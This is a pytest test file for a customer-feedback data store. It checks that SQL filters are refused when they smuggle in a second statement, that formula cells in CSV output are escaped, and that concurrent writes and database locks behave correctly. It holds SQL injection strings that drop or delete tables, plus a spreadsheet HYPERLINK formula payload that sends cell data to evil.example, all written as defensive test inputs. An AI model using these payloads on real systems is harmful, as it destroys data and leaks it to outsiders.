"""Stores under hostile input and concurrent processes (issue 17: items 6, 7, 10)."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cxvoc import open_store
from cxvoc.cli import app
from cxvoc.errors import StoreLockedError, ValidationError
from cxvoc.sample import sample_records

INJECTIONS = [
    "1=1; DROP TABLE records",
    "1=1); DROP TABLE records; SELECT (1",
    "1=1; DELETE FROM records; --",
]


def _duckdb(tmp_path: Path, n: int = 50) -> str:
    url = str(tmp_path / "voc.duckdb")
    with open_store(url) as store:
        store.upsert(sample_records(n, seed=1))
    return url


@pytest.mark.parametrize("where", INJECTIONS)
def test_where_is_one_read_only_expression_duckdb(tmp_path: Path, where: str) -> None:
    url = _duckdb(tmp_path)
    with open_store(url) as st:
        with pytest.raises(ValidationError, match="where"):
            st.export(tmp_path / "out.parquet", where=where)
        with pytest.raises(ValidationError):
            st.count(where=where)
        assert st.count() == 50 and st.count(where="source = 'call'") < 50


def test_where_cli_refuses_injection_and_keeps_table(tmp_path: Path) -> None:
    url = _duckdb(tmp_path)
    res = CliRunner().invoke(
        app,
        [
            "records",
            "export",
            str(tmp_path / "o.parquet"),
            "--store",
            url,
            "--where",
            INJECTIONS[1],
        ],
    )
    assert res.exit_code != 0
    with open_store(url) as st:
        assert st.count() == 50


@pytest.mark.postgres
@pytest.mark.parametrize("where", INJECTIONS)
def test_where_is_one_read_only_expression_postgres(postgres_store_url: str, where: str) -> None:
    with open_store(postgres_store_url) as st:
        st.upsert(sample_records(20, seed=2))
        with pytest.raises(ValidationError):
            st.export("/tmp/never.parquet", where=where)
        assert st.count() == 20
        # a filter that passes the parser still runs in a read-only transaction
        assert st.read_query("SELECT count(*) FROM records")[0][0] == 20
        with pytest.raises(Exception, match="read-only"):
            st.read_query("DELETE FROM records")
        assert st.count() == 20


def test_kpi_show_csv_escapes_formula_cells(tmp_path: Path) -> None:
    url = str(tmp_path / "k.duckdb")
    records = list(sample_records(40, seed=3))
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    records = [r.model_copy(update={"brand": evil}) if i % 2 else r for i, r in enumerate(records)]
    with open_store(url) as st:
        st.upsert(records)
    out = tmp_path / "kpi.csv"
    res = CliRunner().invoke(
        app, ["kpi", "show", "--store", url, "--by", "brand", "--out", str(out)]
    )
    assert res.exit_code == 0, res.output
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


_WRITER = """
import sys
from cxvoc import open_store
from cxvoc.sample import sample_records
path, seed = sys.argv[1], int(sys.argv[2])
records = [r.model_copy(update={"record_id": f"w{seed}-{i}"}) for i, r in enumerate(sample_records(500, seed=seed))]
with open_store(path) as st:
    for start in range(0, 500, 100):
        st.upsert(records[start:start + 100])
"""


@pytest.mark.parametrize("suffix", [".parquet", ".jsonl"])
def test_file_store_concurrent_writers_lose_nothing(tmp_path: Path, suffix: str) -> None:
    path = str(tmp_path / f"many{suffix}")
    procs = [
        subprocess.Popen([sys.executable, "-c", _WRITER, path, str(seed)]) for seed in range(4)
    ]
    assert [p.wait(timeout=120) for p in procs] == [0, 0, 0, 0]
    with open_store(path) as st:
        assert st.count() == 2000


_READER = """
import sys, time, duckdb
con = duckdb.connect(sys.argv[1], read_only=True)
print("holding", flush=True)
time.sleep(float(sys.argv[2]))
"""


def _hold(path: str, seconds: float) -> subprocess.Popen:
    proc = subprocess.Popen(
        [sys.executable, "-c", _READER, path, str(seconds)], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "holding"
    return proc


def test_duckdb_write_waits_for_an_outside_read_only_connection(tmp_path: Path) -> None:
    url = _duckdb(tmp_path, 10)
    reader = _hold(url, 2.0)
    t0 = time.monotonic()
    with open_store(url, lock_timeout_s=60) as st:
        st.upsert(sample_records(30, seed=9))
        assert time.monotonic() - t0 > 0.5  # it waited for the reader instead of failing
        assert st.count() >= 30
    reader.wait()
    reader = _hold(url, 5.0)
    with pytest.raises(StoreLockedError, match="locked"):
        open_store(url, lock_timeout_s=0.5)
    reader.kill()
    reader.wait()


def test_kpi_and_spike_filters_refuse_a_second_statement(tmp_path: Path) -> None:
    from cxvoc.kpi import kpi_table
    from cxvoc.spikes import SpikeParams, detect_spikes

    url = _duckdb(tmp_path)
    attach = f"1=1; ATTACH '{url}' AS v; DROP TABLE v.records"
    with open_store(url) as st:
        with pytest.raises(ValidationError):
            kpi_table(st, by=["brand"], where=attach)
        with pytest.raises(ValidationError):
            detect_spikes(st, SpikeParams(where=attach))
        assert st.count() == 50
